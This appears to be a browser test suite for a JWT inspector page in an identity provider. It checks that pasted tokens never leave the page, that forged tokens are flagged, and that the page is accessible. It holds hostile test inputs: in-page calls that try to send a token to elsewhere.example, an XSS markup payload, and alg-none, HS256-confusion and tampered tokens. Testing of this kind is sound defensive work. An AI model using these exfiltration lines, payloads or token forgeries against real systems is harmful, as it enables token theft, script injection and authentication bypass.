import { createHmac } from 'node:crypto'
import axe from 'axe-core'
import type { BrowserContextOptions, Page } from 'playwright-core'
import t from 'tap'
import { startSignet } from '../support/idp.ts'
import { signIn } from '../support/journey.ts'
import { sharedChromium } from './shared-chromium.ts'

const idp = await startSignet(t)
const browser = await sharedChromium()
const client = await idp.client({ id_token_signed_response_alg: 'RS256' })
const tokens = (await (await signIn(idp, client, { parameters: { nonce: 'n-1' } })).redeem()).body
const accessToken: string = tokens.access_token
const [head = '', body = '', seal = ''] = accessToken.split('.')
const header = JSON.parse(Buffer.from(head, 'base64url').toString())
const claims = JSON.parse(Buffer.from(body, 'base64url').toString())
const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
const flipped = (text: string) => text.replace(/^./, (first) => (first === 'A' ? 'B' : 'A'))

/** The page, with all requests that it made and everything that the browser complained about. */
async function open(options: BrowserContextOptions = {}, path = '/inspect') {
  const context = await browser.newContext({ reducedMotion: 'reduce', ...options })
  const page = await context.newPage()
  const asked: string[] = []
  const addresses: string[] = []
  const complaints: string[] = []
  page.on('request', (request) => {
    addresses.push(request.url())
    asked.push([request.url(), request.postData() ?? '', JSON.stringify(request.headers())].join('\n'))
  })
  page.on('console', (message) => ['error', 'warning'].includes(message.type()) && complaints.push(message.text()))
  page.on('pageerror', (error) => complaints.push(error.message))
  await page.goto(`${idp.issuer}${path}`)
  return { context, page, asked, addresses, complaints }
}

/** The verdict on the pasted text, and every finding. */
async function paste(page: Page, text: string) {
  await page.click('#clear')
  await page.waitForFunction(() => document.getElementById('result')?.childElementCount === 0)
  await page.fill('#token', text)
  await page.waitForSelector('.verdict')
  return {
    verdict: await page.textContent('.verdict-title'),
    announced: await page.textContent('#told'),
    told: (await page.locator('.finding').allTextContents()).join('\n'),
  }
}

t.test('pasted text cannot leave the browser, and the policy would block any attempt', async (t) => {
  const { context, page, asked, addresses, complaints } = await open()
  const marked = [`${head}.${encode({ ...claims, secret: 'marker' })}.${seal}`, accessToken, tokens.refresh_token]
  await page.waitForSelector('#token')
  for (const text of marked) await paste(page, text)
  await page.press('#token', 'Enter')
  await page.press('#shared-secret', 'Enter')
  t.equal(page.url(), `${idp.issuer}/inspect`)

  t.same(
    addresses.filter((address) => !address.startsWith(`${idp.issuer}/assets/`)),
    [`${idp.issuer}/inspect`, `${idp.issuer}/.well-known/jwks.json`],
  )
  for (const text of marked)
    for (const piece of text.split('.'))
      t.notOk(
        asked.some((request) => request.includes(piece)),
        'no request contains a part of it',
      )
  const kept = await page.evaluate(() => [localStorage.length, sessionStorage.length, history.length, history.state])
  t.same(kept, [0, 0, 2, null])
  t.notOk(await page.evaluate(() => document.querySelector('form, [name="token"], [action]')), 'nothing could send it')
  t.same(complaints, [])

  const tried = await page.evaluate(async () => {
    const image = new Image()
    image.src = 'https://elsewhere.example/pixel.png?token'
    navigator.sendBeacon('https://elsewhere.example/', 'token')
    const attempts = await Promise.allSettled([
      fetch('https://elsewhere.example/'),
      fetch('http://127.0.0.1:1/', { mode: 'no-cors' }),
      image.decode(),
    ])
    return attempts.map(({ status }) => status)
  })
  t.same(tried, ['rejected', 'rejected', 'rejected'])
  const breaches = complaints.filter((complaint) => complaint.includes('Content Security Policy'))
  t.ok(breaches.length >= 4, 'the policy blocked all four')

  await page.fill('#token', accessToken)
  await page.waitForSelector('.verdict')
  await page.reload()
  await page.waitForSelector('#token')
  t.equal(await page.inputValue('#token'), '', 'a reload does not restore it')
  await context.close()

  const linked = await open({}, `/inspect#${accessToken}`)
  await linked.page.waitForSelector('#token')
  t.equal(await linked.page.inputValue('#token'), '', 'the address cannot supply a token')
  await linked.context.close()

  const policyOf = async (path: string) => (await fetch(`${idp.issuer}${path}`)).headers.get('content-security-policy')
  t.match(await policyOf('/inspect'), "connect-src 'self'")
  t.notMatch(await policyOf('/'), 'connect-src', 'no other page may fetch')
})

t.test('each kind of token is recognised', async (t) => {
  const { context, page, complaints } = await open()
  await page.waitForSelector('#token')
  const hs256 = `${encode({ alg: 'HS256', typ: 'JWT' })}.${body}`
  const markup = '<img src=x onerror=alert(1)><script>alert(1)</script>'
  const signed = (more: object) => idp.signet.keyRing.sign('ES256', 'at+jwt', { ...claims, ...more }, 60)
  const kinds: Record<string, [text: string, verdict: string, told: string]> = {
    'an access token': [accessToken, 'Signed by this issuer and currently valid', `access token for ${idp.issuer}`],
    'an ID token': [
      tokens.id_token,
      'Signed by this issuer and currently valid',
      `the application ${client.client_id}`,
    ],
    'with a word in front': [`Bearer ${accessToken}`, 'Signed by this issuer and currently valid', 'The word Bearer'],
    expired: [await signed({ exp: claims.iat - 720 }), 'Signed by this issuer, but expired', '12 minutes ago'],
    'a changed payload': [
      `${head}.${encode({ ...claims, scope: 'admin' })}.${seal}`,
      'Do not trust this token',
      'changed after signing',
    ],
    'a changed signature': [`${head}.${body}.${flipped(seal)}`, 'Do not trust this token', 'changed after signing'],
    'alg none': [`${encode({ alg: 'none' })}.${body}.`, 'Do not trust this token', 'this token is not signed'],
    HS256: [
      `${hs256}.${createHmac('sha256', 'x').update(hs256).digest('base64url')}`,
      'Do not trust this token',
      'HS256 is symmetric',
    ],
    'an unknown key': [
      `${encode({ ...header, kid: 'x' })}.${body}.${seal}`,
      'Do not trust this token',
      'has been retired',
    ],
    'another issuer': [
      `${encode({ ...header, kid: 'x' })}.${encode({ ...claims, iss: 'https://other.example' })}.${seal}`,
      'Not from this issuer',
      'it is from https://other.example',
    ],
    'a refresh token': [tokens.refresh_token, 'Not a JWT', 'a refresh token from Signet'],
    'an encrypted one': [`${encode({ alg: 'dir', enc: 'A256GCM' })}..a.b.c`, 'Encrypted', 'five parts'],
    rubbish: ['"hello, world"', 'Not a JWT', 'one part'],
    markup: [
      await signed({ [markup]: markup, name: '\u202Egnp.exe', __proto__: 1 }),
      'Signed by this issuer and currently valid',
      '\\u',
    ],
  }
  for (const [name, [text, verdict, told]] of Object.entries(kinds)) {
    const found = await paste(page, text)
    t.same([found.verdict, found.announced], [verdict, verdict], name)
    t.ok(found.told.includes(told), `${name}: ${found.told}`)
  }
  t.equal(await page.locator('#result img, #result script').count(), 0, 'markup is shown as text')
  t.match(await page.textContent('.part-card.payload .json'), '"name": "\\u202egnp.exe"')
  t.match(await page.textContent('.part-card.payload .claims'), 'probably one of the issuer’s own')

  await page.click('#example')
  await page.waitForSelector('.remark')
  t.equal(await page.textContent('.verdict-title'), 'Do not trust this token')
  t.same(await page.locator('.part').evaluateAll((parts) => parts.map(({ className }) => className)), [
    'part header',
    'part payload',
    'part signature',
  ])
  t.same(complaints, [])
  await context.close()
})

t.test('with the shared secret the service mints an administrator; with the public key it cannot', async (t) => {
  const { context, page, addresses, complaints } = await open()
  await page.waitForSelector('#shared-sign')
  await page.fill('#shared-payload', '["no object"]')
  await page.click('#shared-sign')
  t.match(await page.textContent('#shared-fault'), 'must be a JSON object')
  await page.fill('#shared-payload', '{"sub":"ada","admin":false}')
  await page.fill('#shared-secret', 'short')
  await page.click('#shared-sign')
  await page.waitForSelector('#mint-es256')
  t.equal(await page.textContent('#shared-fault'), '')
  t.match(await page.textContent('#way-hs256'), 'This secret has 5 bytes')

  await page.click('#mint-hs256')
  await page.waitForSelector('#way-hs256 .minted .outcome')
  t.equal(await page.textContent('#way-hs256 .minted .outcome'), 'Accepted')
  const minted =
    (await page.locator('#way-hs256 .minted .part.payload').evaluate((part) => part.lastChild?.textContent)) ?? ''
  t.same(JSON.parse(Buffer.from(minted, 'base64url').toString()), { sub: 'ada', admin: true })
  await page.click('#mint-es256')
  await page.waitForSelector('#way-es256 .minted .outcome')
  t.equal(await page.textContent('#way-es256 .minted .outcome'), 'Rejected')
  t.match(await page.textContent('#way-es256 .minted'), 'InvalidAccessError')
  t.match(await page.textContent('#shared-told'), 'Rejected')
  t.notOk(
    addresses.some((address) => address.includes('jwks')),
    'no request is sent to the issuer',
  )
  t.same(complaints, [])
  await context.close()
})

t.test('without scripts the page says so; without cryptography it says that', async (t) => {
  const still = await open({ javaScriptEnabled: false })
  t.match(await still.page.textContent('noscript'), 'they are turned off')
  t.equal(await still.page.locator('textarea, button').count(), 0, 'nothing is offered that needs a script')
  t.match(await still.page.textContent('.inspector'), 'anyone who can verify a token can also create one')
  await still.context.close()

  const context = await browser.newContext()
  await context.addInitScript(() => Object.defineProperty(crypto, 'subtle', { value: undefined }))
  const page = await context.newPage()
  await page.goto(`${idp.issuer}/inspect`)
  await page.waitForSelector('#token')
  t.match(await paste(page, accessToken), { verdict: 'The signature was not checked', told: 'WebCrypto' })
  t.match(await page.textContent('.inspector'), 'there is nothing to try here')
  await context.close()
})

t.test('the results have no serious accessibility barrier, fit a narrow screen, and are in German', async (t) => {
  const { context, page, complaints } = await open({ locale: 'de-CH', viewport: { width: 320, height: 640 } })
  await page.waitForSelector('#token')
  t.equal(await page.textContent('h1'), 'Token-Inspektor')
  await page.click('#shared-sign')
  await page.click('#mint-hs256')
  await page.click('#mint-es256')
  await page.waitForSelector('#way-es256 .minted .outcome')
  const long = `${head}.${encode({ ...claims, ['x'.repeat(300)]: 'y'.repeat(2000) })}.${seal}`
  for (const [text, verdict] of [
    [accessToken, 'Von diesem Aussteller signiert und zurzeit gültig'],
    [long, 'Trauen Sie diesem Token nicht'],
    [tokens.refresh_token, 'Kein JWT'],
  ] as const) {
    t.equal((await paste(page, text)).verdict, verdict)
    t.equal(await page.evaluate(() => document.documentElement.scrollWidth), 320, verdict)
    t.same(await page.locator('a, button, input').evaluateAll(tooLow), [])
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      t.same(await barriers(page), [], `${verdict}, ${colorScheme}`)
    }
  }
  t.same(complaints, [])
  await context.close()
})

/** Elements too low for a finger. Runs in the page. */
function tooLow(elements: Element[]): string[] {
  return elements.filter((element) => element.getBoundingClientRect().height < 44).map(({ outerHTML }) => outerHTML)
}

/** What axe reports as serious or critical, one line each. */
async function barriers(page: Page): Promise<string[]> {
  if (!(await page.evaluate(() => 'axe' in window))) await page.evaluate(axe.source)
  const { violations } = await page.evaluate<axe.AxeResults>("axe.run(document, { resultTypes: ['violations'] })")
  return violations
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html}`))
}
